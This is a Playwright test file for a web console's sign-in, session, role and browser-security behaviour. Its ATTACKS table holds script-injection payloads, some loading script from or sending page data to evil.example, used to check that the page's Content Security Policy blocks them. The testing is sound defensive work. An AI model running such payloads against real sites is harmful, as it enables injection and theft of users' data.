"""Who comes to the console: by a link, by a token, with too little of a role; and what the page never does."""

from contextlib import AbstractAsyncContextManager

import pytest
from playwright.async_api import Page, expect

from engine.access import Role
from services.console.assets import BUILT, read_assets
from tests.console.accessibility import check_axe
from tests.console.browsing import check_fits, show_everywhere
from tests.console.conftest import Visit
from tests.serving import Served


async def signed_in(page: Page) -> None:
    await expect(page.get_by_role("button", name="Sign out")).to_be_visible()


async def signed_out(page: Page) -> None:
    await expect(page.get_by_role("button", name="Sign in")).to_be_visible()


async def test_a_link_signs_in_once_and_leaves_nothing_in_the_address(visit: Visit, console: Served) -> None:
    link = (await console.operator.post("/login-links")).json()["path"]
    visitor = await visit(address=link)
    await signed_in(visitor.page)
    await expect(visitor.page.get_by_text("the operator")).to_be_visible()
    assert "bd_" not in visitor.page.url
    other = await visit()
    await other.go(link)
    await expect(other.page.get_by_text("This link is used up, or too old")).to_be_visible()
    await check_axe(other.page)
    await signed_out(other.page)


async def test_a_token_signs_in_and_is_kept_nowhere_that_a_script_could_read(visit: Visit, console: Served) -> None:
    visitor = await visit()
    page, secret = visitor.page, console.secrets[Role.EDITOR]
    await page.get_by_label("Access token").fill(secret)
    await page.keyboard.press("Enter")
    await signed_in(page)
    kept = await page.evaluate(
        "JSON.stringify([document.cookie, {...localStorage}, {...sessionStorage}, location.href])"
    )
    assert "bd_" not in kept
    await page.reload()
    await signed_in(page)
    assert secret not in await page.content()


async def test_a_wrong_token_is_refused_beside_the_field(visit: Visit) -> None:
    visitor = await visit()
    visitor.watch.expect(401, "/sessions")
    await visitor.page.get_by_label("Access token").fill("bd_1_wrong")
    await visitor.page.get_by_role("button", name="Sign in").click()
    await expect(visitor.page.get_by_text("This token is not known here")).to_be_visible()
    await signed_out(visitor.page)


async def test_who_signs_out_is_out_in_every_tab(visit: Visit, console: Served) -> None:
    visitor = await visit(Role.VIEWER)
    await signed_in(visitor.page)
    other_tab = await visitor.page.context.new_page()
    await other_tab.goto(console.url)
    await signed_in(other_tab)
    visitor.watch.expect_signed_out()
    await visitor.page.get_by_role("button", name="Sign out").click()
    await signed_out(visitor.page)
    await other_tab.reload()
    await signed_out(other_tab)
    assert await visitor.page.context.cookies() == []


async def test_a_session_that_an_administrator_ends_leads_back_to_the_sign_in_page(
    visit: Visit, console: Served
) -> None:
    visitor = await visit(Role.VIEWER)
    await signed_in(visitor.page)
    tokens = (await console.admin.get("/tokens")).json()["data"]
    (viewer,) = [token["id"] for token in tokens if token["name"] == "the viewer"]
    visitor.watch.expect_signed_out()
    await console.admin.delete(f"/tokens/{viewer}")
    await visitor.page.reload()
    await signed_out(visitor.page)


async def test_a_viewer_is_refused_by_the_server_whatever_a_page_sends(visit: Visit) -> None:
    visitor = await visit(Role.VIEWER)
    await signed_in(visitor.page)
    for method, path in (("POST", "/queue/restart"), ("GET", "/tokens"), ("PUT", "/definitions/hello")):
        visitor.watch.expect(403, path)
        status = await visitor.page.evaluate(
            "([method, path]) => fetch(path, {method, body: method == 'PUT' ? '{}' : undefined})"
            ".then((answer) => answer.status)",
            [method, path],
        )
        assert status == 403, path


async def test_nobody_is_asked_but_this_server_and_for_nothing_but_what_was_built(visit: Visit) -> None:
    visitor = await visit()
    await signed_out(visitor.page)
    assert set(visitor.watch.asked) <= {asset.path for asset in read_assets(BUILT)} | {"/me"}


def refusal(page: Page, words: str) -> AbstractAsyncContextManager[object]:
    """A block in which Chromium must say that the page's policy refused something."""
    return page.expect_console_message(lambda message: words in message.text, timeout=10_000)


ATTACKS = {
    "inline": "made.textContent = 'window.ran = 1'; document.body.append(made)",
    "data": "made.src = 'data:text/javascript,window.ran=1'; document.body.append(made)",
    "foreign": "made.src = 'https://evil.example/x.js'; document.body.append(made)",
    "handler": "document.body.insertAdjacentHTML('beforeend', `<img src='/assets/x' onerror='window.ran = 1'>`)",
    "address": "location.href = 'javascript:window.ran=1'",
    "text": "setTimeout(() => { try { window.ran = new Function('return 1')() } catch (error) { console.log(`${error}`) } })",
    "style": "document.body.insertAdjacentHTML('beforeend', `<p style='position: fixed'>x</p>`)",
    "sent": "fetch('https://evil.example/?what=' + document.title).catch(() => null)",
    "form": "document.body.insertAdjacentHTML('beforeend', `<form action='https://evil.example' id='f'></form>`);"
    " document.getElementById('f').submit()",
}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
async def test_what_an_injection_could_do_the_policy_of_the_page_refuses(visit: Visit, attack: str) -> None:
    visitor = await visit()
    await signed_out(visitor.page)
    visitor.watch.look_away()
    async with refusal(visitor.page, "Content Security Policy"):
        await visitor.page.evaluate(f"() => {{ const made = document.createElement('script'); {ATTACKS[attack]} }}")
    assert await visitor.page.evaluate("window.ran") is None


async def test_another_site_cannot_frame_the_console(visit: Visit, console: Served) -> None:
    visitor = await visit(Role.ADMIN)
    await signed_in(visitor.page)
    visitor.watch.look_away()
    hostile = console.url.replace("127.0.0.1", "localhost") + "/hostile"
    page = await visitor.page.context.new_page()
    body = f"<iframe src='{console.url}/'></iframe>"
    await page.route(hostile, lambda route: route.fulfill(body=body, content_type="text/html"))
    await page.goto(hostile)
    assert page.frames[1].url == "chrome-error://chromewebdata/"


async def test_another_site_can_neither_act_as_who_is_signed_in_nor_read_what_that_one_sees(
    visit: Visit, console: Served
) -> None:
    visitor = await visit(Role.ADMIN)
    await signed_in(visitor.page)
    visitor.watch.look_away()
    hostile = console.url.replace("127.0.0.1", "localhost") + "/hostile"
    page = await visitor.page.context.new_page()
    await page.route(hostile, lambda route: route.fulfill(body="<h1>hostile</h1>", content_type="text/html"))
    await page.goto(hostile)
    read = "(url) => fetch(url, {credentials: 'include'}).then((answer) => answer.text()).catch((error) => error.name)"
    for path in ("/me", "/tokens", "/assets/none"):
        assert await page.evaluate(read, console.url + path) == "TypeError", path
    send = "(url) => fetch(url, {method: 'POST', mode: 'no-cors', credentials: 'include'}).then(() => 1, () => 1)"
    for path in ("/queue/restart", "/logout", "/sessions"):
        await page.evaluate(send, console.url + path)
    rows = await console.rows("select action from audit_log where action not in ('link.create', 'session.create')")
    assert rows == []
    assert (await visitor.page.evaluate("fetch('/me').then((answer) => answer.status)")) == 200


@pytest.mark.parametrize("theme", ["dark", "light"])
@pytest.mark.parametrize("language", ["en", "ko"])
async def test_the_sign_in_page_stops_nobody(visit: Visit, language: str, theme: str) -> None:
    visitor = await visit(language=language, theme=theme)
    page = visitor.page
    await expect(page.locator("main h1")).to_be_visible()
    assert await page.evaluate("document.documentElement.lang") == language
    await check_axe(page)
    await check_fits(page)


async def test_the_sign_in_page_is_used_by_keyboard_alone(visit: Visit, console: Served) -> None:
    visitor = await visit()
    await expect(visitor.page.get_by_label("Access token")).to_be_focused()
    await visitor.page.keyboard.insert_text(console.secrets[Role.VIEWER])
    await visitor.page.keyboard.press("Enter")
    await signed_in(visitor.page)


async def test_what_the_sign_in_page_looks_like(visit: Visit) -> None:
    visitor = await visit()
    await expect(visitor.page.locator("main h1")).to_be_visible()
    await show_everywhere(visitor.page, "sign-in")
